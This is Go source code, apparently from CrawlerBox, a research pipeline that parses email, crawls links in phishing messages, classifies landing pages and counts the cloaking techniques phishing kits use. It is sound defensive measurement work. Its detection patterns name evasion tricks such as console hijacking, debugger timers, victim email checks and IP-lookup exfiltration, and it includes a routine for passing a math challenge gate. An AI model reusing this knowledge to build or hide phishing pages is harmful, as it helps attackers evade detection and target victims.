	// ContentType is the lowercase media type (e.g. "text/html").
	ContentType string
	// Params holds content-type parameters (charset, boundary, name...).
	Params map[string]string
	// Disposition is "inline", "attachment", or "" when absent.
	Disposition string
	// Filename is the decoded attachment filename, if any.
	Filename string
	// Body is the transfer-decoded content for leaf parts.
	Body []byte
	// Children are the sub-parts of multipart/* and message/rfc822 parts.
	Children []*Part
}

// Parse parses a raw RFC-5322 message into a part tree.
func Parse(raw []byte) (*Part, error) {
	return parseEntity(raw, 0)
}

func parseEntity(raw []byte, depth int) (*Part, error) {
	if depth > MaxDepth {
		return nil, ErrTooDeep
	}
	header, body, err := splitHeaderBody(raw)
	if err != nil {
		return nil, err
	}
	p := &Part{Header: header, Params: map[string]string{}}
	ct := header.Get("Content-Type")
	if ct == "" {
		ct = "text/plain; charset=us-ascii"
	}
	mediaType, params, err := stdmime.ParseMediaType(ct)
	if err != nil {
		// Tolerate malformed content types the way mail clients do: treat
		// the part as opaque text rather than failing the whole message.
		mediaType, params = "text/plain", map[string]string{}
	}
	p.ContentType = strings.ToLower(mediaType)
	p.Params = params
	if cd := header.Get("Content-Disposition"); cd != "" {
		if disp, dparams, err := stdmime.ParseMediaType(cd); err == nil {
			p.Disposition = strings.ToLower(disp)
			if fn, ok := dparams["filename"]; ok {
				p.Filename = fn
			}
		}
	}
	if p.Filename == "" {
		if name, ok := params["name"]; ok {
			p.Filename = name
		}
	}

	switch {
	case strings.HasPrefix(p.ContentType, "multipart/"):
		boundary := params["boundary"]
		if boundary == "" {
			return nil, fmt.Errorf("mime: multipart part without boundary")
		}
		children, err := splitMultipart(body, boundary)
		if err != nil {
			return nil, err
		}
		for _, chunk := range children {
			child, err := parseEntity(chunk, depth+1)
			if err != nil {
				return nil, err
			}
			p.Children = append(p.Children, child)
		}
	case p.ContentType == "message/rfc822":
		decoded, err := decodeTransfer(body, header.Get("Content-Transfer-Encoding"))
		if err != nil {
			return nil, err
		}
		p.Body = decoded
		child, err := parseEntity(decoded, depth+1)
		if err != nil {
			// A corrupt attached EML is kept as an opaque body; the walker
			// will still surface it.
			return p, nil //nolint:nilerr // graceful degradation by design
		}
		p.Children = append(p.Children, child)
	default:
		decoded, err := decodeTransfer(body, header.Get("Content-Transfer-Encoding"))
		if err != nil {
			return nil, err
		}
		p.Body = decoded
	}
	return p, nil
}

// splitHeaderBody separates the header block from the body and parses
// headers with unfolding.
func splitHeaderBody(raw []byte) (textproto.MIMEHeader, []byte, error) {
	// Normalize bare LF to CRLF for the textproto reader.
	normalized := normalizeCRLF(raw)
	idx := bytes.Index(normalized, []byte("\r\n\r\n"))
	var headerBytes, body []byte
	if idx < 0 {
		// Header-only entity (empty body) is legal.
		headerBytes = normalized
		body = nil
	} else {
		headerBytes = normalized[:idx+2]
		body = normalized[idx+4:]
	}
	if len(bytes.TrimSpace(headerBytes)) == 0 {
		return nil, nil, ErrNoHeaders
	}
	r := textproto.NewReader(bufio.NewReader(bytes.NewReader(append(headerBytes, '\r', '\n'))))
	header, err := r.ReadMIMEHeader()
	if err != nil && !errors.Is(err, io.EOF) {
		return nil, nil, fmt.Errorf("mime: parsing headers: %w", err)
	}
	return header, body, nil
}

func normalizeCRLF(raw []byte) []byte {
	if !bytes.Contains(raw, []byte("\n")) {
		return raw
	}
	// Replace lone LF with CRLF.
	var out bytes.Buffer
	out.Grow(len(raw) + len(raw)/20)
	for i := 0; i < len(raw); i++ {
		if raw[i] == '\n' && (i == 0 || raw[i-1] != '\r') {
			out.WriteByte('\r')
		}
		out.WriteByte(raw[i])
	}
	return out.Bytes()
}

// splitMultipart splits a multipart body into its raw part chunks.
func splitMultipart(body []byte, boundary string) ([][]byte, error) {
	delim := []byte("--" + boundary)
	var chunks [][]byte
	lines := bytes.Split(body, []byte("\r\n"))
	var current []byte
	inPart := false
	closed := false
	for _, line := range lines {
		trimmed := bytes.TrimRight(line, " \t")
		switch {
		case bytes.Equal(trimmed, delim):
			if inPart {
				chunks = append(chunks, trimTrailingCRLF(current))
			}
			current = nil
			inPart = true
		case bytes.Equal(trimmed, append(append([]byte{}, delim...), '-', '-')):
			if inPart {
				chunks = append(chunks, trimTrailingCRLF(current))
			}
			inPart = false
			closed = true
		default:
			if inPart {
				current = append(current, line...)
				current = append(current, '\r', '\n')
			}
		}
		if closed {
			break
		}
	}
	if !closed && inPart {
		// Tolerate a missing closing delimiter (seen in real phishing mail).
		chunks = append(chunks, trimTrailingCRLF(current))
	}
	if len(chunks) == 0 {
		return nil, fmt.Errorf("mime: no parts found for boundary %q", boundary)
	}
	return chunks, nil
}

func trimTrailingCRLF(b []byte) []byte {
	return bytes.TrimSuffix(b, []byte("\r\n"))
}

// decodeTransfer decodes a Content-Transfer-Encoding.
func decodeTransfer(body []byte, encoding string) ([]byte, error) {
	switch strings.ToLower(strings.TrimSpace(encoding)) {
	case "", "7bit", "8bit", "binary":
		return body, nil
	case "base64":
		cleaned := removeWhitespace(body)
		out := make([]byte, base64.StdEncoding.DecodedLen(len(cleaned)))
		n, err := base64.StdEncoding.Decode(out, cleaned)
		if err != nil {
			return nil, fmt.Errorf("mime: decoding base64 body: %w", err)
		}
		if n > len(out) {
			n = len(out)
		}
		return out[:n], nil
	case "quoted-printable":
		out, err := io.ReadAll(quotedprintable.NewReader(bytes.NewReader(body)))
		if err != nil {
			return nil, fmt.Errorf("mime: decoding quoted-printable body: %w", err)
		}
		return out, nil
	default:
		return nil, fmt.Errorf("mime: unsupported transfer encoding %q", encoding)
	}
}

func removeWhitespace(b []byte) []byte {
	out := make([]byte, 0, len(b))
	for _, c := range b {
		switch c {
		case '\r', '\n', ' ', '\t':
		default:
			out = append(out, c)
		}
	}
	return out
}

// Walk performs a depth-first traversal of the part tree, calling fn on
// every part including the root. Returning a non-nil error stops the walk.
func Walk(root *Part, fn func(*Part) error) error {
	if err := fn(root); err != nil {
		return err
	}
	for _, c := range root.Children {
		if err := Walk(c, fn); err != nil {
			return err
		}
	}
	return nil
}

// Leaves returns all leaf parts (those without children) in document order.
func Leaves(root *Part) []*Part {
	var out []*Part
	_ = Walk(root, func(p *Part) error {
		if len(p.Children) == 0 {
			out = append(out, p)
		}
		return nil
	})
	return out
}

// Subject returns the message subject of a root part.
func (p *Part) Subject() string {
	return p.Header.Get("Subject")
}

// From returns the From header of a root part.
func (p *Part) From() string {
	return p.Header.Get("From")
}

// AuthResults reports the SPF/DKIM/DMARC verdicts recorded in the
// Authentication-Results header. The paper notes that every malicious
// message in the corpus passed all three — they come from legitimate or
// compromised infrastructure, not spoofed senders.
type AuthResults struct {
	SPF   string
	DKIM  string
	DMARC string
}

// ParseAuthResults extracts the three verdicts from an
// Authentication-Results header value such as
// "mx.example.com; spf=pass ...; dkim=pass ...; dmarc=pass ...".
func ParseAuthResults(value string) AuthResults {
	var out AuthResults
	for _, field := range strings.Split(value, ";") {
		field = strings.TrimSpace(field)
		for _, mech := range []struct {
			prefix string
			dst    *string
		}{
			{"spf=", &out.SPF},
			{"dkim=", &out.DKIM},
			{"dmarc=", &out.DMARC},
		} {
			if strings.HasPrefix(strings.ToLower(field), mech.prefix) {
				rest := field[len(mech.prefix):]
				if sp := strings.IndexAny(rest, " \t"); sp >= 0 {
					rest = rest[:sp]
				}
				*mech.dst = strings.ToLower(rest)
			}
		}
	}
	return out
}

// PassesAuth reports whether all three mechanisms read "pass".
func (a AuthResults) PassesAuth() bool {
	return a.SPF == "pass" && a.DKIM == "pass" && a.DMARC == "pass"
}
