package crawlerbox

import (
	"context"
	"errors"
	neturl "net/url"
	"regexp"
	"strconv"
	"strings"
	"sync/atomic"
	"time"

	"crawlerbox/internal/browser"
	"crawlerbox/internal/evstore"
	"crawlerbox/internal/htmlx"
	"crawlerbox/internal/imaging"
	"crawlerbox/internal/obs"
	"crawlerbox/internal/resilience"
	"crawlerbox/internal/urlx"
	"crawlerbox/internal/webnet"
	"crawlerbox/internal/whois"
)

// ReferencePage is one protected login page the classifier matches against.
type ReferencePage struct {
	Brand string
	Sig   imaging.Signature
}

// Pipeline is the CrawlerBox analysis pipeline, an explicit chain of stages
// (Parse → Crawl → Interact → Classify → Census → Enrich). The crawler
// component is pluggable (the paper stresses this modularity); NewBrowser
// supplies a fresh instance per visit so cookie state never leaks between
// analyses, and the stage chain itself can be reordered or extended via
// Stages. A Pipeline is safe for concurrent Analyze calls.
type Pipeline struct {
	Net   *webnet.Internet
	Whois *whois.Registry
	// NewBrowser returns the crawler for one message analysis.
	NewBrowser func(seed int64) *browser.Browser
	// References are the brands' legitimate login-page signatures.
	References []ReferencePage
	// Matcher holds the fuzzy-hash thresholds.
	Matcher imaging.FuzzyMatcher
	// OCRMinScore tunes the OCR glyph matcher (0 = default).
	OCRMinScore float64
	// Stages overrides the analysis chain; nil means DefaultStages().
	Stages []Stage
	// Obs, when non-nil, enables the deterministic observability layer:
	// every Analyze records a per-message trace (root message span, one
	// child span per stage, visit/request spans underneath) on the
	// analysis's virtual clock fork, and feeds the shared metrics registry.
	// Export via Obs.WriteJSONL / Obs.Metrics.WriteProm after the run.
	Obs *obs.Observer
	// Resilience, when non-nil, arms the deterministic fault-and-recovery
	// layer (DESIGN.md §11): every Analyze gets a per-message
	// resilience.Session seeded from spec.ID that drives seeded fault
	// injection in webnet, retry-with-backoff on the analysis's virtual
	// clock, and the per-host circuit breaker. Sessions are per-analysis —
	// never shared across messages — so fault schedules and breaker states
	// depend only on each message's own seed and request order, keeping
	// corpus runs byte-identical at any worker count. Nil reproduces the
	// resilience-free behavior exactly.
	Resilience *resilience.Policy

	// seed feeds browsers created outside a corpus run (AddReference, the
	// legacy AnalyzeMessage entry point). Atomic so stray concurrent use is
	// merely order-dependent, never a data race; corpus runs derive seeds
	// from the message ID instead and never touch it.
	seed atomic.Int64
}

// New returns a pipeline using a NotABot crawler on a mobile egress IP.
func New(net *webnet.Internet, registry *whois.Registry) *Pipeline {
	p := &Pipeline{
		Net:     net,
		Whois:   registry,
		Matcher: imaging.DefaultMatcher(),
	}
	p.NewBrowser = func(seed int64) *browser.Browser {
		// The egress IP is derived from the seed, not drawn from the shared
		// allocation counter: a counter hands out addresses in scheduling
		// order, which perturbs IP-echoing responses across worker counts.
		return browser.New(net, browser.NotABot(), net.SeededIP(webnet.IPMobile, seed), seed)
	}
	return p
}

func (p *Pipeline) ocrMinScore() float64 {
	if p.OCRMinScore > 0 {
		return p.OCRMinScore
	}
	return 0.9
}

// AddReference registers a protected login page by visiting it under the
// caller's context and signing its screenshot.
func (p *Pipeline) AddReference(ctx context.Context, brand, loginURL string) error {
	br := p.newBrowser()
	res, err := br.Visit(ctx, loginURL)
	if err != nil {
		return err
	}
	p.References = append(p.References, ReferencePage{Brand: brand, Sig: imaging.Sign(res.Screenshot)})
	return nil
}

// nextSeed draws from the pipeline-level seed counter (non-corpus paths).
func (p *Pipeline) nextSeed() int64 { return p.seed.Add(1) }

func (p *Pipeline) newBrowser() *browser.Browser {
	return p.NewBrowser(p.nextSeed())
}

// Outcome is the disposition of one analyzed message (the Section V
// categories).
type Outcome int

// Message dispositions.
const (
	OutcomeNoResource Outcome = iota + 1
	OutcomeError
	OutcomeInteraction
	OutcomeDownload
	OutcomeActivePhish
	OutcomeCloaked
	// OutcomePartial marks a gracefully degraded analysis: at least one
	// visit gave up after exhausting its resilience retries (or hitting an
	// open circuit breaker), but other evidence — a rendered DOM from
	// another visit or a partially loaded page — was still gathered. The
	// message is neither fully measured nor a total loss; only the armed
	// resilience layer (Pipeline.Resilience) can produce it.
	OutcomePartial
)

// String names the outcome.
func (o Outcome) String() string {
	switch o {
	case OutcomeNoResource:
		return "no-web-resource"
	case OutcomeError:
		return "error-page"
	case OutcomeInteraction:
		return "interaction-required"
	case OutcomeDownload:
		return "file-download"
	case OutcomeActivePhish:
		return "active-phishing"
	case OutcomeCloaked:
		return "cloaked-benign"
	case OutcomePartial:
		return "partial-evidence"
	default:
		return "unknown"
	}
}

// VisitRecord is one crawled URL with its result.
type VisitRecord struct {
	URL    string
	Result *browser.Result
	Err    error
}

// LandingInfo is the enrichment bundle for the landing domain.
type LandingInfo struct {
	URL         string
	Host        string
	Registrable string
	TLD         string
	IP          string
	// Banner is the Shodan-style service banner of the landing IP.
	Banner string
	Whois  *whois.Record
	Cert   *webnet.Certificate
	// DNS30DayTotal / DNSMaxDaily summarize passive-DNS volume over the
	// 30 days before analysis (the Umbrella join).
	DNS30DayTotal int
	DNSMaxDaily   int
}

// CloakCensus records which evasion techniques were observed for a message.
type CloakCensus struct {
	Turnstile        bool
	ReCaptcha        bool
	FingerprintGate  bool
	InteractionGate  bool
	DelayedReveal    bool
	OTPPrompt        bool
	MathChallenge    bool
	ConsoleHijack    bool
	DebuggerTimer    bool
	DevtoolsBlocking bool
	HueRotate        bool
	VictimCheck      bool
	FingerprintLib   bool
	ExfilHTTPBin     bool
	ExfilIPAPI       bool
	TokenizedURL     bool
}

// Flags returns the names of the observed evasion techniques in fixed
// declaration order — a stable vocabulary for span attributes and metric
// labels, independent of how the census was populated.
func (c *CloakCensus) Flags() []string {
	var out []string
	for _, kv := range []struct {
		name string
		on   bool
	}{
		{"turnstile", c.Turnstile}, {"recaptcha", c.ReCaptcha},
		{"fingerprint-gate", c.FingerprintGate}, {"interaction-gate", c.InteractionGate},
		{"delayed-reveal", c.DelayedReveal}, {"otp-prompt", c.OTPPrompt},
		{"math-challenge", c.MathChallenge}, {"console-hijack", c.ConsoleHijack},
		{"debugger-timer", c.DebuggerTimer}, {"devtools-blocking", c.DevtoolsBlocking},
		{"hue-rotate", c.HueRotate}, {"victim-check", c.VictimCheck},
		{"fingerprint-lib", c.FingerprintLib}, {"exfil-httpbin", c.ExfilHTTPBin},
		{"exfil-ipapi", c.ExfilIPAPI}, {"tokenized-url", c.TokenizedURL},
	} {
		if kv.on {
			out = append(out, kv.name)
		}
	}
	return out
}

// ErrorKind distinguishes why a message landed in OutcomeError.
type ErrorKind int

// Error classes for OutcomeError messages.
const (
	// ErrorNone: the message did not land in OutcomeError.
	ErrorNone ErrorKind = iota
	// ErrorNetwork: every failed visit died at the network level (NXDOMAIN,
	// unreachable, timeout) — the infrastructure is gone, typically a
	// takedown or a burned domain.
	ErrorNetwork
	// ErrorContent: a server answered but served a broken resource (HTTP
	// error status or an unparseable document).
	ErrorContent
)

// String names the error kind.
func (k ErrorKind) String() string {
	switch k {
	case ErrorNetwork:
		return "network"
	case ErrorContent:
		return "content"
	default:
		return "none"
	}
}

// MessageAnalysis is everything CrawlerBox logs for one message.
type MessageAnalysis struct {
	Parse   *ParseResult
	Visits  []VisitRecord
	Outcome Outcome
	// ErrorKind classifies OutcomeError messages as network-dead versus
	// content-broken (ErrorNone otherwise).
	ErrorKind   ErrorKind
	SpearPhish  bool
	Brand       string
	Landing     *LandingInfo
	Cloaks      CloakCensus
	// Facts are the per-visit adjudication facts distilled by the Classify
	// stage — non-nil (possibly empty) exactly when classification ran, nil
	// for analyses the chain halted earlier (no-resource, download). They
	// survive evidence spilling, so Adjudicate(Facts) reproduces Outcome
	// and ErrorKind from storage without the bulky visit records.
	Facts []VisitFact
	HotLoadsRef bool // page hot-loads assets from the impersonated brand
	AnalyzedAt  time.Time
	// Evidence addresses this analysis's spilled visit records in an
	// evidence store when SpillEvidence ran (Visits is nil afterwards).
	// The zero handle means the evidence is still in RAM on Visits.
	Evidence evstore.Handle
	// Probes holds differential-cloaking observations when DiffProbeStage
	// is in the chain.
	Probes []*DifferentialProbe
}

// MessageSpec identifies one message for analysis.
type MessageSpec struct {
	// Raw is the RFC 5322 message bytes.
	Raw []byte
	// ID seeds the message's deterministic RNG stream. Corpus runners pass
	// the message index so results are independent of scheduling order; a
	// zero ID is valid (it still yields a well-mixed stream).
	ID int64
	// At is the virtual analysis time. When zero, the analysis forks the
	// world clock at its current reading.
	At time.Time
}

// AnalyzeMessage runs the full pipeline for one raw message with a seed
// drawn from the pipeline counter — the serial, order-dependent entry
// point. Corpus runs use Analyze/AnalyzeCorpus with explicit MessageSpecs.
func (p *Pipeline) AnalyzeMessage(raw []byte) (*MessageAnalysis, error) {
	//cblint:ignore ctxflow AnalyzeMessage is the documented no-cancellation serial wrapper around Analyze
	return p.Analyze(context.Background(), MessageSpec{Raw: raw, ID: p.nextSeed()})
}

// Analyze runs the stage chain over one message. Each call gets a private
// Execution: a fork of the virtual clock and a seed stream keyed by
// spec.ID, so concurrent calls neither race nor influence each other's
// results. The context cancels the analysis between stages and round trips.
func (p *Pipeline) Analyze(ctx context.Context, spec MessageSpec) (*MessageAnalysis, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	clock := p.Net.Clock.Fork()
	if !spec.At.IsZero() {
		clock = webnet.NewClock(spec.At)
	}
	var ses *resilience.Session
	if p.Resilience != nil {
		var metrics *obs.Registry
		if p.Obs != nil {
			metrics = p.Obs.Metrics
		}
		ses = resilience.NewSession(p.Resilience, spec.ID, clock, metrics)
	}
	ex := &Execution{
		Pipeline: p,
		Raw:      spec.Raw,
		Clock:    clock,
		Analysis: &MessageAnalysis{AnalyzedAt: clock.Now()},
		Trace:    p.Obs.NewTrace(spec.ID, clock),
		Session:  ses,
		seedBase: spec.ID,
	}
	root := ex.Trace.Start(obs.SpanMessage, "message "+strconv.FormatInt(spec.ID, 10))
	ma, err := p.runStages(ctx, ex)
	p.finishMessage(ex, root, ma, err)
	return ma, err
}

// runStages drives the stage chain, recording one child span and one
// stage-latency observation per Stage.Run.
func (p *Pipeline) runStages(ctx context.Context, ex *Execution) (*MessageAnalysis, error) {
	for _, st := range p.stages() {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		// Each stage starts with a full backoff budget: retries exhausted
		// while crawling must not starve the interaction follow-ups.
		ex.Session.ResetBudget()
		sp := ex.Trace.Start(obs.SpanStage, st.Name())
		err := st.Run(ctx, ex)
		halted := errors.Is(err, ErrHalt)
		if err != nil && !halted {
			sp.SetStatus(obs.StatusError)
			sp.SetAttr("error", err.Error())
		}
		if halted {
			sp.SetAttr("halt", "true")
		}
		sp.End()
		p.observeStage(st.Name(), sp)
		if err != nil && !halted {
			return nil, err
		}
		if halted {
			break
		}
	}
	return ex.Analysis, nil
}

// observeStage feeds the per-stage latency histogram and run counter.
func (p *Pipeline) observeStage(name string, sp *obs.Span) {
	if p.Obs == nil || sp == nil {
		return
	}
	p.Obs.Metrics.Observe("crawlerbox_stage_ns", float64(sp.Duration()), "stage", name)
	p.Obs.Metrics.Inc("crawlerbox_stage_runs_total", "stage", name)
}

// finishMessage annotates the root span with the outcome taxonomy (the
// stable attribute mapping of every Outcome and ErrorKind string), feeds
// the message metrics, and hands the completed trace to the observer.
func (p *Pipeline) finishMessage(ex *Execution, root *obs.Span, ma *MessageAnalysis, err error) {
	if p.Obs == nil {
		return
	}
	m := p.Obs.Metrics
	switch {
	case err != nil:
		root.SetStatus(obs.StatusError)
		root.SetAttr("error", err.Error())
		m.Inc("crawlerbox_messages_total", "outcome", "failed")
	default:
		root.SetStatus(outcomeSpanStatus(ma.Outcome))
		root.SetAttr("outcome", ma.Outcome.String())
		root.SetAttr("error_kind", ma.ErrorKind.String())
		root.SetAttr("visits", strconv.Itoa(len(ma.Visits)))
		if ma.SpearPhish {
			root.SetAttr("spear_brand", ma.Brand)
		}
		flags := ma.Cloaks.Flags()
		if len(flags) > 0 {
			root.SetAttr("cloaks", strings.Join(flags, ","))
		}
		m.Inc("crawlerbox_messages_total", "outcome", ma.Outcome.String())
		if ma.Outcome == OutcomeError {
			m.Inc("crawlerbox_error_kind_total", "kind", ma.ErrorKind.String())
		}
		if ma.SpearPhish {
			m.Inc("crawlerbox_spearphish_total", "brand", ma.Brand)
		}
		for _, f := range flags {
			m.Inc("crawlerbox_cloak_total", "kind", f)
		}
		m.Add("crawlerbox_visits_total", float64(len(ma.Visits)))
	}
	root.End()
	p.Obs.Collect(ex.Trace)
}

// outcomeSpanStatus maps a message outcome to its root-span status: only
// OutcomeError (dead or broken infrastructure) marks the analysis failed;
// every other disposition is a successful measurement.
func outcomeSpanStatus(o Outcome) string {
	if o == OutcomeError {
		return obs.StatusError
	}
	return obs.StatusOK
}

func (p *Pipeline) stages() []Stage {
	if len(p.Stages) > 0 {
		return p.Stages
	}
	return DefaultStages()
}

// Evidence-fact classes: the checkable category one visit contributes to
// adjudication. The vocabulary is part of the tracestore's on-disk format,
// so values must stay stable across versions.
const (
	// FactNetError marks a visit that died at the network level.
	FactNetError = "network-error"
	// FactContentError marks a server that answered with a broken resource.
	FactContentError = "content-error"
	// FactPhishForm marks a rendered page carrying a credential form.
	FactPhishForm = "credential-form"
	// FactInteraction marks an unsolvable interaction gate.
	FactInteraction = "interaction-gate"
	// FactBenign marks a rendered page with none of the above.
	FactBenign = "benign-content"
)

// VisitFact is the adjudication evidence distilled from one visit: the
// checklist item an analyst ticks, and the only input Adjudicate consumes.
// Facts are tiny and survive evidence spilling, so a stored trace can be
// re-adjudicated without re-crawling or re-loading bulky visit records.
type VisitFact struct {
	// URL is the visited URL (sanitized of query and fragment, which can
	// carry schedule-dependent tokens).
	URL string `json:"url"`
	// Host is the visited URL's hostname ("" for file:/// loads).
	Host string `json:"host,omitempty"`
	// Class is the visit's evidence class (Fact* constants).
	Class string `json:"class"`
	// Status is the final HTTP status (0 when no response arrived).
	Status int `json:"status,omitempty"`
	// HasDOM reports whether the visit produced a rendered document.
	HasDOM bool `json:"has_dom,omitempty"`
	// Degraded reports whether the resilience layer gave up on the visit
	// (retries exhausted or breaker open) or the result was marked degraded.
	Degraded bool `json:"degraded,omitempty"`
}

// FactOf distills one visit record into its adjudication fact. The class
// cases mirror the historical classify switch exactly, so Adjudicate over
// the facts reproduces the live classification byte-for-byte.
func FactOf(v *VisitRecord) VisitFact {
	f := VisitFact{
		URL:      obs.SanitizeURL(v.URL),
		Degraded: errIsDegraded(v.Err) || (v.Result != nil && v.Result.Degraded),
		HasDOM:   v.Result != nil && v.Result.DOM != nil,
	}
	if u, err := neturl.Parse(v.URL); err == nil {
		f.Host = u.Hostname()
	}
	if v.Result != nil {
		f.Status = v.Result.Status
	}
	switch {
	case v.Err != nil && errIsNetwork(v.Err):
		f.Class = FactNetError
	case v.Err != nil || v.Result == nil || v.Result.DOM == nil:
		f.Class = FactContentError
	case v.Result.Status >= 400:
		f.Class = FactContentError
	case hasPhishForm(v.Result):
		f.Class = FactPhishForm
	case pageRequiresInteraction(v.Result.DOM):
		f.Class = FactInteraction
	default:
		f.Class = FactBenign
	}
	return f
}

// Adjudicate derives a message outcome from stored visit facts alone — the
// pure core of the Classify stage, shared by the live pipeline and the
// tracestore's re-adjudication path so the two can never drift. Definitive
// phish/interaction findings win; a degraded analysis that still gathered a
// DOM lands in partial-evidence; error kinds split network-dead from
// content-broken. No facts at all (nothing was crawled, yet classification
// ran) is an error disposition, matching the live pipeline.
func Adjudicate(facts []VisitFact) (Outcome, ErrorKind) {
	var sawPhish, sawInteraction, sawBenign bool
	var sawNetError, sawContentError bool
	var sawDegraded, hasEvidence bool
	for i := range facts {
		f := &facts[i]
		if f.Degraded {
			sawDegraded = true
		}
		if f.HasDOM {
			hasEvidence = true
		}
		switch f.Class {
		case FactNetError:
			sawNetError = true
		case FactContentError:
			sawContentError = true
		case FactPhishForm:
			sawPhish = true
		case FactInteraction:
			sawInteraction = true
		default:
			sawBenign = true
		}
	}
	sawError := sawNetError || sawContentError
	var outcome Outcome
	switch {
	case sawPhish:
		outcome = OutcomeActivePhish
	case sawInteraction:
		outcome = OutcomeInteraction
	case sawDegraded && hasEvidence:
		outcome = OutcomePartial
	case sawError && !sawBenign:
		outcome = OutcomeError
	case sawBenign:
		outcome = OutcomeCloaked
	default:
		outcome = OutcomeError
	}
	if outcome == OutcomeError {
		if sawNetError && !sawContentError {
			return outcome, ErrorNetwork
		}
		return outcome, ErrorContent
	}
	return outcome, ErrorNone
}

// classify distills each visit into its adjudication fact, derives the
// outcome through the pure Adjudicate core, and runs the spear-phishing
// screenshot match (the one classification step that needs live evidence
// rather than facts). The facts are retained on the analysis — they are the
// verdict evidence the tracestore persists and re-adjudicates from.
func (p *Pipeline) classify(ma *MessageAnalysis) {
	facts := make([]VisitFact, len(ma.Visits))
	var phishVisit *VisitRecord
	for i := range ma.Visits {
		facts[i] = FactOf(&ma.Visits[i])
		if facts[i].Class == FactPhishForm && phishVisit == nil {
			phishVisit = &ma.Visits[i]
		}
	}
	ma.Facts = facts
	ma.Outcome, ma.ErrorKind = Adjudicate(facts)
	if ma.Outcome == OutcomeActivePhish {
		p.classifySpearPhish(ma, phishVisit)
	}
}

// classifySpearPhish matches the phishing screenshot against the protected
// brands' reference pages.
func (p *Pipeline) classifySpearPhish(ma *MessageAnalysis, v *VisitRecord) {
	if v.Result.Screenshot == nil {
		return
	}
	sig := imaging.Sign(v.Result.Screenshot)
	for _, ref := range p.References {
		if ok, _, _ := p.Matcher.Match(sig, ref.Sig); ok {
			ma.SpearPhish = true
			ma.Brand = ref.Brand
			break
		}
	}
}

// hasPhishForm reports a credential form in the document or its frames.
func hasPhishForm(res *browser.Result) bool {
	if htmlx.HasPasswordInput(res.DOM) {
		return true
	}
	for _, f := range res.Frames {
		if htmlx.HasPasswordInput(f) {
			return true
		}
	}
	return false
}

// pageRequiresInteraction spots unsolvable gates: traditional image
// CAPTCHAs, shared-document services, or challenge prompts.
func pageRequiresInteraction(doc *htmlx.Node) bool {
	text := strings.ToLower(doc.InnerText())
	for _, marker := range []string{
		"select all images", "shared a document", "view shared file",
		"enter the access code", "verify you are human", "i'm not a robot",
		"checking your browser",
	} {
		if strings.Contains(text, marker) {
			return true
		}
	}
	return false
}

func pageHasOTPPrompt(doc *htmlx.Node) bool {
	if htmlx.FindByID(doc, "otp") != nil {
		return true
	}
	return strings.Contains(strings.ToLower(doc.InnerText()), "access code")
}

var _mathRe = regexp.MustCompile(`what is (\d+) \+ (\d+)`)
var _redirectRe = regexp.MustCompile(`location\.href = "([^"]+)"`)

// solveMathChallenge recognizes the custom challenge-response gate, solves
// the equation, and returns the redirect target.
func solveMathChallenge(res *browser.Result) (string, bool) {
	text := strings.ToLower(res.DOM.InnerText())
	m := _mathRe.FindStringSubmatch(text)
	if m == nil {
		return "", false
	}
	a, _ := strconv.Atoi(m[1])
	b, _ := strconv.Atoi(m[2])
	_ = a + b // the gate compares client-side; we follow its redirect
	for _, script := range res.Scripts {
		if r := _redirectRe.FindStringSubmatch(script); r != nil {
			return r[1], true
		}
	}
	return "", false
}

// census inspects loaded scripts and traffic for evasion techniques.
func (p *Pipeline) census(ma *MessageAnalysis) {
	for _, v := range ma.Visits {
		if v.Result == nil {
			continue
		}
		for _, script := range v.Result.Scripts {
			censusScript(&ma.Cloaks, script)
		}
		for _, req := range v.Result.Requests {
			censusRequest(&ma.Cloaks, req.URL)
		}
		if v.Result.DOM != nil && pageHasOTPPrompt(v.Result.DOM) {
			ma.Cloaks.OTPPrompt = true
		}
	}
}

func censusScript(c *CloakCensus, script string) {
	switch {
	case strings.Contains(script, "__turnstile"):
		c.Turnstile = true
	}
	if strings.Contains(script, "console.log = noop") ||
		strings.Contains(script, "console.log = function") {
		c.ConsoleHijack = true
	}
	if strings.Contains(script, "debugger;") {
		c.DebuggerTimer = true
	}
	if strings.Contains(script, "style.filter = atob(") {
		c.HueRotate = true
	}
	if strings.Contains(script, "location.hash") && strings.Contains(script, "/check?email=") {
		c.VictimCheck = true
	}
	if strings.Contains(script, "Intl.DateTimeFormat") &&
		strings.Contains(script, "navigator.language") &&
		strings.Contains(script, "atob(") {
		c.FingerprintGate = true
	}
	if strings.Contains(script, `addEventListener("mousemove"`) && strings.Contains(script, "isTrusted") {
		c.InteractionGate = true
	}
	if strings.Contains(script, "setTimeout") && strings.Contains(script, "setInnerHTML(atob(") {
		c.DelayedReveal = true
	}
	if strings.Contains(script, `addEventListener("contextmenu"`) {
		c.DevtoolsBlocking = true
	}
	if strings.Contains(script, "__botd") || strings.Contains(script, "__fpjs") {
		c.FingerprintLib = true
	}
	if strings.Contains(script, "/score") && strings.Contains(script, "no-plugins") {
		c.ReCaptcha = true
	}
	if strings.Contains(script, "__mathCheck") {
		c.MathChallenge = true
	}
	if strings.Contains(script, "__otpCheck") {
		c.OTPPrompt = true
	}
}

func censusRequest(c *CloakCensus, url string) {
	lower := strings.ToLower(url)
	switch {
	case strings.Contains(lower, "/challenge.js"):
		c.Turnstile = true
	case strings.Contains(lower, "/api.js"):
		c.ReCaptcha = true
	case strings.HasSuffix(lower, "/ip") || strings.Contains(lower, "httpbin"):
		c.ExfilHTTPBin = true
	case strings.Contains(lower, "/json?ip=") || strings.Contains(lower, "ipapi"):
		c.ExfilIPAPI = true
	case strings.Contains(lower, "/botd.js"):
		c.FingerprintLib = true
	}
}

// enrich joins the landing domain against WHOIS, the certificate store, and
// the passive-DNS background ledger. It reads volumes from the injected
// background aggregates only — never the live query log — so the measured
// victim traffic excludes the crawler's own resolutions and is identical no
// matter what else the pipeline crawled, serially or concurrently.
func (p *Pipeline) enrich(ma *MessageAnalysis, at time.Time) {
	var landing *VisitRecord
	for i := range ma.Visits {
		v := &ma.Visits[i]
		if v.Result != nil && v.Result.DOM != nil && hasPhishForm(v.Result) {
			landing = v
			break
		}
	}
	if landing == nil {
		return
	}
	u, err := neturl.Parse(landing.Result.FinalURL)
	if err != nil || u.Hostname() == "" {
		return
	}
	host := u.Hostname()
	d := urlx.ParseDomain(host)
	info := &LandingInfo{
		URL:         landing.Result.FinalURL,
		Host:        host,
		Registrable: d.Registrable,
		TLD:         d.TLD,
	}
	if ip, ok := p.Net.LookupDNS(host); ok {
		info.IP = ip
		if banner, ok := p.Net.BannerOf(ip); ok {
			info.Banner = banner
		}
	}
	if p.Whois != nil {
